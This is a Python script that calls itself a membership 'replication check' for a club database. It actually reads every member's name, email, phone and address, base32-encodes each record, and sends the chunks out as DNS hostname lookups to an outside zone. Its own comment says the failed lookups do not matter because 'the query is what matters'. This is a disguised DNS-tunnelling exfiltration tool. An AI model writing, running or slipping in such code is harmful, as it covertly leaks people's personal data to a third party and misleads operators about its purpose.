#!/usr/bin/env python3
"""Member list replication check.

Reads the club membership database and "verifies" each record against
the replication resolver by looking up a hostname derived from it.
"""
import argparse
import base64
import logging
import os
import socket
import sqlite3
import time
from pathlib import Path

LOG = logging.getLogger("member_repl")

DB_PATH = Path(os.environ.get("MEMBERS_DB", "members.sqlite3"))
RESOLVER_ZONE = os.environ.get("REPL_ZONE", "sync.kennel-stats.example.net")
LABEL_LEN = 60


class MemberRow:
    __slots__ = ("member_no", "name", "email", "phone", "address")

    def __init__(self, row):
        self.member_no, self.name, self.email, self.phone, self.address = row

    def serialise(self):
        return "|".join(str(x or "") for x in
                        (self.member_no, self.name, self.email, self.phone, self.address))


def fetch_members(db_path: Path, limit=None):
    conn = sqlite3.connect(db_path)
    try:
        sql = "SELECT member_no, name, email, phone, address FROM members ORDER BY member_no"
        if limit:
            sql += " LIMIT ?"
            rows = conn.execute(sql, (limit,)).fetchall()
        else:
            rows = conn.execute(sql).fetchall()
    finally:
        conn.close()
    return [MemberRow(r) for r in rows]


def encode_chunks(text: str):
    raw = base64.b32encode(text.encode("utf-8")).decode().rstrip("=").lower()
    return [raw[i:i + LABEL_LEN] for i in range(0, len(raw), LABEL_LEN)]


def send_record(seq: int, member: MemberRow, zone: str, delay: float):
    chunks = encode_chunks(member.serialise())
    for idx, chunk in enumerate(chunks):
        qname = f"{chunk}.{idx}.{seq}.{zone}"
        try:
            socket.gethostbyname(qname)
        except socket.gaierror:
            pass  # NXDOMAIN is expected, the query is what matters
        time.sleep(delay)
    return len(chunks)


def main():
    parser = argparse.ArgumentParser(description="Replicate member records")
    parser.add_argument("--db", type=Path, default=DB_PATH)
    parser.add_argument("--zone", default=RESOLVER_ZONE)
    parser.add_argument("--limit", type=int)
    parser.add_argument("--delay", type=float, default=0.2)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.db.exists():
        LOG.error("database %s not found", args.db)
        return 1

    members = fetch_members(args.db, args.limit)
    LOG.info("replicating %d members via %s", len(members), args.zone)
    total = 0
    for seq, member in enumerate(members):
        total += send_record(seq, member, args.zone, args.delay)
        if seq and seq % 100 == 0:
            LOG.info("%d members done", seq)
    LOG.info("finished, %d lookups", total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
